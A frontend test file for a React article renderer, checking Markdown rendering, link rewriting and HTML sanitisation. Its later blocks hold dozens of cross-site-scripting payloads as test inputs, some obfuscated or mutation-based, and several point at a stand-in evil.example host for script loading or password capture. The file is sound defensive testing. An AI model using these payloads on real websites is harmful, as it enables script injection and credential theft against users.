import { fireEvent, render, waitFor, within } from '@testing-library/react';
import { JSDOM } from 'jsdom';
import { StrictMode } from 'react';
import { renderToString } from 'react-dom/server';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { ArticleBody } from '#ui/article-body.tsx';
import { sanitizeWith } from '#ui/article-html.ts';
import { hydrateFailed } from '../hydrate-failed.tsx';

const ran = vi.fn();

beforeEach(() => {
  Object.assign(window, { ran });
});

afterEach(() => {
  expect(ran).not.toHaveBeenCalled();
});

function body(text: string): HTMLElement {
  const { container } = render(
    <StrictMode>
      <ArticleBody text={text} />
    </StrictMode>,
  );
  return container.firstElementChild as HTMLElement;
}

/** The attributes of all elements in the article. */
const attributesOf = (element: Element) =>
  [...element.querySelectorAll('*')].flatMap((each) =>
    [...each.attributes].map(({ name, value }) => `${each.localName} ${name}=${value}`),
  );
const tagsOf = (element: Element) =>
  [...element.querySelectorAll('*')].map((each) => each.localName);

describe('Markdown', () => {
  it('P-POST-14 shows newlines as line breaks', () => {
    expect(body('Who is calling?\nWhat is the number?').innerHTML.trim()).toBe(
      '<p>Who is calling?<br>What is the number?</p>',
    );
  });

  it('keeps headings below the page’s title', () => {
    const article = body('# One\n\n## Two\n\n<h1 class="x">Three</h1>\n\n### Four');
    expect(tagsOf(article)).toEqual(['h2', 'h2', 'h2', 'h3']);
    expect(article).toHaveTextContent(/One.*Two.*Three.*Four/);
  });

  it('names the cells of a table by column and by row', () => {
    const { getAllByRole } = within(
      body('| | Day 1 | Week 2 |\n| - | - | - |\n| **Neck** | stiff | better |\n| | a | b |'),
    );
    const names = (role: string) => getAllByRole(role).map(({ textContent }) => textContent);
    expect(names('columnheader')).toEqual(['Day 1', 'Week 2']);
    expect(names('rowheader')).toEqual(['Neck']);
    expect(names('cell')).toEqual(['', 'stiff', 'better', '', 'a', 'b']);
  });

  it('B21 a sentence below a table is no row of it', () => {
    const article = body('| x | y |\n| - | - |\n| 1 | 2 |\nCall us.');
    expect(article.querySelectorAll('tbody tr')).toHaveLength(1);
    expect(article.querySelector('table + p')).toHaveTextContent('Call us.');
  });

  it('knows lists, emphasis, links, tables and pictures', () => {
    const article = body(
      '- a\n- **b** and _c_\n\n[call](tel:+18015550142)\n\n| x | y |\n| - | -: |\n| 1 | 2 |\n\n![A road](/img/road.svg)',
    );
    expect(article.querySelectorAll('li')).toHaveLength(2);
    expect(article.querySelector('strong')).toHaveTextContent('b');
    expect(article.querySelector('em')).toHaveTextContent('c');
    expect(article.querySelector('a')).toLeadTo('tel:+18015550142');
    expect(article.querySelector('td')).toHaveAttribute('align', 'right');
    expect(article.querySelector('img')).toHaveAttribute('loading', 'lazy');
  });

  it.each([
    ['See[^1]\n\n[^1]: Smith 2019', '<p>See[^1]</p>\n<p>[^1]: Smith 2019</p>'],
    ['Doses of 10*2*3', '<p>Doses of 10*2*3</p>'],
    ['2*width*height', '<p>2*width*height</p>'],
    ['a*b*c', '<p>a*b*c</p>'],
    ['Pain\n-', '<p>Pain<br>-</p>'],
    ['about ~5~ minutes', '<p>about ~5~ minutes</p>'],
    ['~5 to ~10 minutes', '<p>~5 to ~10 minutes</p>'],
    ['Scores <b and >c', '<p>Scores &lt;b and &gt;c</p>'],
    ['Dear <first name>, hello', '<p>Dear &lt;first name&gt;, hello</p>'],
    ['<your name>', '<p>&lt;your name&gt;</p>'],
    ['<Title of the book> is new', '<p>&lt;Title of the book&gt; is new</p>'],
    ['Dear <name>, hello', '<p>Dear &lt;name&gt;, hello</p>'],
    ['Come at <time>', '<p>Come at &lt;time&gt;</p>'],
    ['Take <b>', '<p>Take &lt;b&gt;</p>'],
    ['Thanks\n--\nDr. Lee', '<p>Thanks<br>--<br>Dr. Lee</p>'],
    ['Total\n==\n12', '<p>Total<br>==<br>12</p>'],
    ['One\u2028two\vthree', '<p>One<br>two<br>three</p>'],
    ['<open door>', '<p>&lt;open door&gt;</p>'],
    ['>50 % of people', '<p>&gt;50 % of people</p>'],
    ['>= 3 days', '<p>&gt;= 3 days</p>'],
    ['+ 1 801 555 0142', '<p>+ 1 801 555 0142</p>'],
    ['[Note]: important', '<p>[Note]: important</p>'],
    ['[Phones]: 24/7', '<p>[Phones]: 24/7</p>'],
    ['*\u00a0Results vary', '<p>*&nbsp;Results vary</p>'],
    ['Rest.\u00a0\n\u00a0\nIce.', '<p>Rest.</p>\n<p>Ice.</p>'],
    ['2019. It was a good year', '<p>2019. It was a good year</p>'],
    ['It hurts.\n=====\nSee us.', '<p>It hurts.<br>=====<br>See us.</p>'],
    ['-', '<p>-</p>'],
    ['8)', '<p>8)</p>'],
    ['#', '<p>#</p>'],
    ['>', '<p>&gt;</p>'],
    ['>:( it hurt', '<p>&gt;:( it hurt</p>'],
    ['~~~~~~\nHello', '<p>~~~~~~<br>Hello</p>'],
    ['```', '<p>```</p>'],
    ['it`s late and it`s dark', '<p>it`s late and it`s dark</p>'],
    ['don`t stop, won`t', '<p>don`t stop, won`t</p>'],
    ['[see](below)', '<p>[see](below)</p>'],
    ['<?> and <? more', '<p>&lt;?&gt; and &lt;? more</p>'],
    ['[phone](801-555-0142)', '<p>[phone](801-555-0142)</p>'],
    ['    An indented line', '<p>    An indented line</p>'],
  ])('B21 shows %j as it was typed', (typed, html) => {
    const article = body(typed);
    expect(article.innerHTML.trim()).toBe(html);
    expect(article.querySelector('a, em, s, del, b, ol, pre')).toBeNull();
  });

  it.each([
    ['**Note: **rest', '<strong>Note: </strong>rest'],
    ['**Note:**rest', '<strong>Note:</strong>rest'],
    ['**Note:\u00a0**rest', '<strong>Note:&nbsp;</strong>rest'],
    ['**1.**Rest', '<strong>1.</strong>Rest'],
    ['**“Ow”**he said', '<strong>“Ow”</strong>he said'],
    ['**Ice: **cold, **heat: **warm', '<strong>Ice: </strong>cold, <strong>heat: </strong>warm'],
    ['**a** and **b**', '<strong>a</strong> and <strong>b</strong>'],
    ['**Note: see **this** now', '**Note: see <strong>this</strong> now'],
    ['2 ** 3 ** 4', '2 ** 3 ** 4'],
    ['**Note: **', '<strong>Note: </strong>'],
    ['**Open: ** 9 to **5 **', '<strong>Open: </strong> 9 to <strong>5 </strong>'],
    ['a **b ** c ** d', 'a **b ** c ** d'],
  ])('B21 %j has the bold words that were meant', (typed, html) => {
    expect(body(typed).innerHTML.trim()).toBe(`<p>${html}</p>`);
  });

  it.each([
    ['- [ ] Ice\n- [x] Rest', ['☐ Ice', '☑ Rest']],
    ['Bring:\n•\tYour card\n•  A list', ['Your card', 'A list']],
    ['· One\n· Two', ['One', 'Two']],
    ['▪ One', ['One']],
    ['\uF0B7\tOne\n\uF0B7\tTwo', ['One', 'Two']],
    ['o\tOne\no\tTwo', ['One', 'Two']],
    ['§\tOne', ['One']],
    ['–\tOne\n–\tTwo', ['One', 'Two']],
    ['➢ One', ['One']],
    ['•\u00a0\u00a0One', ['One']],
    ['o\u00a0\u00a0 One', ['One']],
    ['•One\n•Two', ['One', 'Two']],
    ['❖ One\n❖ Two', ['One', 'Two']],
    ['\ufeff- One', ['One']],
    ['\t•\tOne\n\t•\tTwo', ['One', 'Two']],
    ['Bring:\n\t⁃\tOne\n\t⁃\tTwo', ['One', 'Two']],
    ['\t1.\tOne\n\t2.\tTwo', ['One', 'Two']],
    ['\t•\tOne\n\t\t◦\tTwo', ['One\nTwo', 'Two']],
    ['•\tOne\n\t◦\tTwo', ['One\nTwo', 'Two']],
    ['1.\u00a0\u00a0 One\n2.\u00a0\u00a0 Two', ['One', 'Two']],
    ['-\u00a0\u00a0\u00a0 One\n-\u00a0 Two', ['One', 'Two']],
    ['• One\u00a0\n• Two \u00a0', ['One', 'Two']],
    ['- One\n-\n- Two', ['One', '', 'Two']],
    ['•\u2003One\n•\u3000Two', ['One', 'Two']],
    ['◆ One\n▫ Two', ['One', 'Two']],
    ['•“One”\n•**Two**', ['“One”', 'Two']],
    ['Bring:\n    • One\n    • Two', ['One', 'Two']],
    ['\t• One\n\t• Two', ['One', 'Two']],
    ['    - One\n    - Two', ['One', 'Two']],
    ['- One\n\n    - Two', ['One\n\nTwo', 'Two']],
  ])('B21 %j is a list', (typed, items) => {
    const shown = [...body(typed).querySelectorAll('li')].map(({ textContent }) =>
      textContent?.trim(),
    );
    expect(shown).toEqual(items);
  });

  it.each([
    ['It hurts.\n---\nSee us.', '<p>It hurts.</p>\n<hr>\n<p>See us.</p>'],
    ['Hours\n---\nMonday.\n---', '<h2>Hours</h2>\n<p>Monday.</p>\n<hr>'],
    ['10**km**', '<p>10<strong>km</strong></p>'],
    ['a [b]\n\n[b]: /visit', '<p>a <a href="/visit" rel="noopener">b</a></p>'],
    ['##Ice\n###Heat', '<h2>Ice</h2>\n<h3>Heat</h3>'],
    ['#Ice #Heat', '<p>#Ice #Heat</p>'],
    ['## Ice {#ice}', '<h2>Ice</h2>'],
    ['## Why {#1} helps', '<h2>Why {#1} helps</h2>'],
    [
      '![][image1]\n\n[image1]: <data:image/png;base64,iVBORw0KGgo=>',
      '<p><img src="data:image/png;base64,iVBORw0KGgo=" alt="" loading="lazy"></p>',
    ],
    ['It helps :contentReference[oaicite:0]{index=0}.', '<p>It helps.</p>'],
    ['It helps \ue200cite\ue202turn0search3\ue201.', '<p>It helps.</p>'],
    ['It helps【4†source】.', '<p>It helps.</p>'],
    ['Ice\n⸻\nHeat', '<p>Ice</p>\n<hr>\n<p>Heat</p>'],
    ['<aside>\n💡 **Ice**\n\n</aside>', '<p>💡 <strong>Ice</strong></p>'],
    ['    ## Ice', '<h2>Ice</h2>'],
    ['Ice\n\u3000\nHeat', '<p>Ice</p>\n<p>Heat</p>'],
    ['<br>\n## Ice', '<br><h2>Ice</h2>'],
    ['<hr />\n**Ice**', '<hr><p><strong>Ice</strong></p>'],
    ['<h3>Ice</h3>\n- **a**', '<h3>Ice</h3><ul>\n<li><strong>a</strong></li>\n</ul>'],
    ['One<br>\nTwo', '<p>One<br><br>Two</p>'],
  ])('B21 %j means what it looks like', (typed, html) => {
    expect(body(typed).innerHTML.trim()).toBe(html);
  });

  it.each([
    ['**10**', 'strong'],
    ['very *slow* 10', 'em'],
    ['~~old~~', 'del'],
    ['1. one', 'ol'],
    ['<b>bold</b>', 'b'],
    ['<a href="/visit">x</a>', 'a'],
    ['```\ncode\n```', 'pre'],
    ['~~~\ncode\n~~~', 'pre'],
    ['`code`', 'code'],
    ['[x](below.html)', 'a'],
    ['Hours\n=====', 'h2'],
    ['> 50 years of care', 'blockquote'],
    ['<small >x</small>', 'small'],
    ['<details open>\n<summary>x</summary>\n\ntext\n\n</details>', 'details'],
    ['a<br />b', 'br'],
  ])('B21 %j still has its mark', (typed, tag) => {
    expect(tagsOf(body(typed))).toContain(tag);
  });

  it('shows code literally', () => {
    expect(body('`<script>ran()</script>`')).toHaveTextContent('<script>ran()</script>');
  });

  it('keeps harmless HTML', () => {
    const article = body(
      '<table><tr><th scope="col">Day</th></tr></table><details><summary>More</summary>Text</details>',
    );
    expect(article.querySelector('th')).toHaveAttribute('scope', 'col');
    expect(article.querySelector('details')).toHaveTextContent('MoreText');
  });
});

describe('links', () => {
  it.each([
    'https://insurance.utah.gov/',
    'http://example.com/a?b=c',
    'mailto:front-desk@example.com',
    'tel:+18015550142',
    '/contact',
    '#top',
  ])('lead to %s', (address) => {
    const [link] = body(`[there](${address})`).querySelectorAll('a');
    expect(link).toLeadTo(address);
    expect(link).toHaveAttribute('rel', 'noopener');
  });

  it.each([
    ['[us](www.example.com)', 'https://www.example.com'],
    ['[us](example.com/hours)', 'https://example.com/hours'],
    ['[us](udot.utah.gov)', 'https://udot.utah.gov'],
    ['<a href="www.example.com">us</a>', 'https://www.example.com'],
    ['[us](https://https://example.com)', 'https://example.com'],
    ['[us](front-desk@example.com)', 'mailto:front-desk@example.com'],
    ['[us](hours.html)', 'hours.html'],
    ['[us](https.html)', 'https.html'],
    ['[us](https//example.com)', 'https://example.com'],
    ['[us](https:/example.com)', 'https://example.com'],
    ['[us](https:example.com)', 'https://example.com'],
    ['[us](https://https//example.com)', 'https://example.com'],
    ['[us](https://example.com/a form.pdf)', 'https://example.com/a%20form.pdf'],
    ['[us](https://example.com "a form")', 'https://example.com'],
    [
      '[us](mailto:desk@example.com?subject=Hi there)',
      'mailto:desk@example.com?subject=Hi%20there',
    ],
    ['[us](tel: 801 555 0142)', 'tel:8015550142'],
    ['[us](tel://8015550142)', 'tel:8015550142'],
    ['[us](mailto: desk@example.com)', 'mailto:desk@example.com'],
    ['[us](“https://example.com”)', 'https://example.com'],
    ['[us]("https://example.com")', 'https://example.com'],
    ['[us](tel:(801) 555-0142)', 'tel:(801)555-0142'],
    ['<a href=“https://example.com”>us</a>', 'https://example.com'],
    ['[us](/a.com)', '/a.com'],
    ['“https://example.com/a.”', 'https://example.com/a'],
    ['See www.example.com’s page', 'http://www.example.com'],
    ['https://example.com/a?b=1&c=2… and', 'https://example.com/a?b=1&c=2'],
    ['https://example.com’s page', 'https://example.com'],
  ])('of %j lead to what is meant, %s', (typed, address) => {
    const article = body(typed);
    expect(article.querySelector('a')).toLeadTo(address);
    if (!/[[<]/.test(typed)) expect(article).toHaveTextContent(typed);
  });

  it.each([
    ['https://www.youtube.com/embed/a_B-1?si=x&amp;start=5', 'https://youtu.be/a_B-1'],
    ['https://www.youtube-nocookie.com/embed/a_B-1', 'https://youtu.be/a_B-1'],
    ['https://player.vimeo.com/video/12?h=3', 'https://vimeo.com/12'],
    ['//video.example/1?a=1&amp;b=2', 'https://video.example/1?a=1&b=2'],
  ])('take the place of a frame of %s', (source, address) => {
    const frame = (title: string) =>
      `<iframe width="560" src="${source}" ${title} allowfullscreen></iframe>`;
    const article = body(`${frame('title="Neck stretches"')}\n\nIce. ${frame('')} Heat.`);
    const [named, unnamed] = article.querySelectorAll('a');
    expect(named).toLeadTo(address);
    expect(named).toHaveTextContent('Neck stretches');
    expect(unnamed).toLeadTo(address);
    expect(article).toHaveTextContent(`Ice. ${address.slice(8)} Heat.`);
    expect(body(`\`${frame('')}\``).querySelector('a')).toBeNull();
  });

  it.each([
    'javascript:ran()',
    'JaVaScRiPt:ran()',
    'java&#115;cript:ran()',
    'java&Tab;script:ran()',
    '&#1;javascript:ran()',
    'vbscript:ran()',
    'data:text/html,<script>ran()</script>',
    'blob:https://clinic.example/1',
    'file:///etc/passwd',
    'ftp://example.com/',
    'sms:+18015550142',
    'intent:x',
    'h323:x',
  ])('do not lead to %s', (address) => {
    const article = body(`[a](${address})\n\n<a href="${address.replaceAll('"', '')}">b</a>`);
    for (const link of article.querySelectorAll('a')) {
      expect(link.getAttribute('href') ?? '').not.toMatch(/^\s*\w+:/);
    }
  });
});

describe('no script runs and no style applies', () => {
  it.each([
    '<script>ran()</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>ran()</scr</script>ipt>',
    '<img src=x onerror=ran()>',
    '<img src="x` `<script>ran()</script>"` `>',
    '<svg onload=ran()><circle /></svg>',
    '<svg><script>ran()</script></svg>',
    '<svg><a xlink:href="javascript:ran()"><text>x</text></a></svg>',
    '<math><mi xlink:href="javascript:ran()">x</mi></math>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran()&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>',
    '<noscript><p title="</noscript><img src=x onerror=ran()>">',
    '<iframe src="javascript:ran()"></iframe>',
    '<iframe src="https://x.example/&quot;onclick=ran()" title="<img src=x onerror=ran()>"></iframe>',
    '<iframe src="https://x.example" title="&lt;script&gt;ran()"></iframe>',
    '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
    '<object data="javascript:ran()"></object><embed src="javascript:ran()">',
    '<video><source onerror=ran()></video><audio src=x onerror=ran()>',
    '<details open ontoggle=ran()><summary>x</summary></details>',
    '<body onload=ran()><p onclick="ran()" onmouseover=ran()>x</p>',
    '<a href="/" onclick="ran()" target="_blank" ping="https://evil.example">x</a>',
    '<form action="https://evil.example"><input name="password"><button formaction="javascript:ran()">x</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:ran()"><base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css"><style>body{display:none}</style>',
    '<div style="position:fixed;inset:0" class="fixed inset-0" id="root">x</div>',
    '<img name="body" src="/x.png"><a name="cookie" id="cookie" href="/">x</a>',
    '<template><img src=x onerror=ran()></template><slot name="x"></slot>',
    '<x-widget onclick=ran() is="x-y">x</x-widget>',
    '<p data-x="1" aria-hidden="true" tabindex="0" contenteditable role="button" accesskey="x">x</p>',
    '<isindex type=image src=1 onerror=ran()>',
    '<!--><img src=x onerror=ran()>-->',
    '<![CDATA[<img src=x onerror=ran()>]]>',
    '![x](x"onerror="ran\\(\\))',
    '[x](/ "x\\" onmouseover=\\"ran\\(\\)")',
    '<h1 onclick="ran()">x</h1>',
    '<<h1 onclick=ran()>script>ran()</script>',
  ])('in %s', (text) => {
    const article = body(`Before\n\n${text}\n\nAfter`);
    expect(article).toHaveTextContent('Before');
    expect(tagsOf(article).filter((tag) => /[:-]/.test(tag))).toEqual([]);
    expect(
      article.querySelectorAll(
        'script, style, link, meta, base, iframe, object, embed, svg, math, form, input, button, video, audio, source, template, slot, noscript, h1',
      ),
    ).toHaveLength(0);
    expect(
      attributesOf(article).filter(
        (attribute) =>
          !/^(a (href=(https?:|mailto:|tel:|[/#]|$)|rel=noopener$|title=)|img (src=|alt=|title=|loading=lazy$)|p title=|details open=)/.test(
            attribute,
          ),
      ),
    ).toEqual([]);
  });
});

describe('P-ERR-12 a picture that does not load', () => {
  const picture =
    '<img src="/gone.png" alt="A road &lt;b>in&lt;/b> winter" width="1200" height="600">';
  const lost = (article: Element) => article.querySelector<HTMLElement>('.lost-picture');

  it('is replaced by its alt text, in the same size', () => {
    const article = body(`Before ${picture} ![](/plain.png) after`);
    for (const image of article.querySelectorAll('img')) fireEvent.error(image);
    expect(article.querySelector('img, b')).toBeNull();
    expect(lost(article)).toHaveTextContent('A road <b>in</b> winter');
    expect(lost(article)?.style).toMatchObject({ width: '1200px', aspectRatio: '1200 / 600' });
    expect(article).toHaveTextContent(/^Before .* after$/);
  });

  it('is replaced even if it failed before hydration', async () => {
    const article = hydrateFailed(<ArticleBody text={picture} />);
    await waitFor(() => expect(lost(article)).toHaveTextContent('A road'));
  });
});

it('renders in the build, with a document of its own', () => {
  vi.stubGlobal('window', undefined);
  const html = (text: string) => renderToString(<ArticleBody text={text} />);
  sanitizeWith(new JSDOM('').window);
  expect(html('**All** <img src=x onerror=ran()>')).toBe(
    '<div class="prose"><p><strong>All</strong> <img src="x" loading="lazy"></p>\n</div>',
  );
  vi.unstubAllGlobals();
  sanitizeWith(window);
});
